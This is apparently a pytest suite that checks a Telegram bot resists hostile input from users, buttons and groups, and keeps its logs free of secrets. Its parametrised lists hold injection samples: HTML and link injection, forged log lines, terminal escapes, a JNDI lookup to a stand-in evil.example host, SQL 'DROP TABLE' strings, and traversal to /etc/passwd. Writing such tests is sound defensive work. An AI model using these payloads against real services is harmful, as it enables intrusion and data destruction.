"""People who mean harm: names, texts, buttons and groups that are made to trick the bot or whoever reads its log."""

import io
import logging
from collections.abc import Iterator

import pytest

from bot.operation.logs import WithoutSecrets
from bot.preview.server import TOKEN, PretendTelegram
from bot.store import Store
from tests.telegram.conftest import Chat

MARK = "zqxmark"  # stands in every hostile text: where it turns up, the text did
HOSTILE = [
    f"<b>{MARK}</b>", f"</b></i>{MARK}", f'<a href="https://evil.example">{MARK}</a>', f"&lt;{MARK}&amp;",
    f"{MARK}\n2026-11-22 03:00:00,000 ERROR bot: lost", f"\x1b[2J\x1b[31m{MARK}", f"\u202e{MARK}\u2066",
    f"{MARK}{{votes}}{{disclaimer}}%s%n${{jndi:ldap://evil.example/x}}", f"'; DROP TABLE votes; -- {MARK}", f"../../{MARK}",
]  # fmt: skip


@pytest.fixture
def log() -> Iterator[io.StringIO]:
    """The log as it is written in earnest, at its most talkative."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(WithoutSecrets(TOKEN))
    root = logging.getLogger("bot")
    level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    yield stream
    root.removeHandler(handler)
    root.setLevel(level)


@pytest.mark.parametrize("text", HOSTILE)
async def test_neither_a_name_nor_a_text_comes_back_or_into_the_log(
    telegram: PretendTelegram, log: io.StringIO, text: str
) -> None:
    person = telegram.person(first_name=text, username=None)
    for said in (
        "/start",
        text,
        f"/start {text}",
        f"/{text}",
        "is it normal to crawl backwards",
        "/forget",
        "/privacy",
    ):
        await person.say(said)
    await person.send("photo", caption=text)
    await person.edit(person.messages[0].id, text)
    assert len(person.replies) >= 8
    assert all(MARK not in reply.html for reply in person.replies)
    assert all(MARK not in label for reply in person.replies for label in reply.labels)
    assert MARK not in log.getvalue()


async def test_what_breaks_on_a_hostile_text_does_not_show_it(
    telegram: PretendTelegram, log: io.StringIO, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(_self: object, text: str) -> None:
        raise ValueError(f"{text}\n2026-11-22 ERROR bot: forged {TOKEN}")

    monkeypatch.setattr("bot.replies.speaker.Speaker.meaning", fail)
    person = telegram.person(first_name=HOSTILE[4])
    await person.say(f"she moves backwards {MARK}")
    assert person.replies  # told that it was not their fault, or the warning signs
    assert MARK not in log.getvalue()
    assert TOKEN not in log.getvalue()
    assert all(MARK not in reply.html for reply in person.replies)


PRESSES = [
    "e:../../etc/passwd", "v:nothing/y", "v:normal/maybe", "v:normal/y/y", "e:normal\x00", "E:normal", "x:normal", "s:",
    "e:" + "a" * 62, "v:" + "a" * 60 + "/y", "e:normal; DROP TABLE votes", "status", "a:status", "e:<b>", "é" * 32,
]  # fmt: skip


@pytest.mark.parametrize("data", PRESSES)
async def test_a_forged_button_leads_home_and_leaves_nothing(chat: Chat, store: Store, data: str) -> None:
    await chat.meet()
    await chat.person.press(chat.last.id, data)
    assert "MENU" in chat.last.text.upper() or chat.last.buttons
    assert await store.votes() == {}


async def test_a_button_pressed_again_and_again_counts_as_one_vote(chat: Chat, store: Store) -> None:
    await chat.meet()
    await chat.say("is it normal to crawl backwards")
    for _ in range(50):
        await chat.person.press(chat.last.id, "v:normal/y")
    assert await store.votes() == {"normal": (1, 0)}


async def test_a_button_under_no_message_of_ours_is_answered_and_harms_nobody(
    telegram: PretendTelegram, chat: Chat
) -> None:
    await chat.meet()
    other = Chat(telegram.person("Other"))
    await other.meet()
    seen = list(other.seen)
    await chat.person.press(999_999, "e:normal")
    assert other.seen == seen
    assert telegram.unanswered() == ()


@pytest.mark.parametrize("said", ["/status", "/status@preview_bot", "/reload", "/stop", "/admin", "/STATUS"])
async def test_a_stranger_learns_nothing_of_how_the_bot_is(chat: Chat, said: str) -> None:
    await chat.meet()
    await chat.say(said)
    told = "\n".join(chat.seen).lower()
    assert not any(word in told for word in ("updates answered", "version ", "uptime", "running for", "sqlite"))


async def test_a_group_cannot_make_the_bot_answer_what_is_not_meant_for_it(telegram: PretendTelegram) -> None:
    group = telegram.group(HOSTILE[0], hears_all=True)
    person = telegram.person(HOSTILE[2])
    for text in ("she crawls backwards", "/start@another_bot", "@another_bot help", HOSTILE[0]):
        await person.say(text, chat=group)
    assert [message for message in group.messages if message.author == "bot"] == []


async def test_a_flood_from_one_person_is_hushed_and_another_person_still_answered(
    telegram: PretendTelegram, chat: Chat
) -> None:
    loud = telegram.person("Loud")
    for number in range(60):
        await loud.say(f"why {number}")
    assert len(loud.replies) < 60
    await chat.meet()
    assert chat.seen


async def test_a_flood_of_presses_is_hushed_and_each_spinner_still_stops(telegram: PretendTelegram, chat: Chat) -> None:
    await chat.meet()
    before = len(telegram.calls)
    for _ in range(60):
        await chat.person.press(chat.last.id, "m")
    edits = [call for call in telegram.calls[before:] if call.method.startswith(("editMessage", "sendMessage"))]
    assert len(edits) < 60
    assert telegram.unanswered() == ()
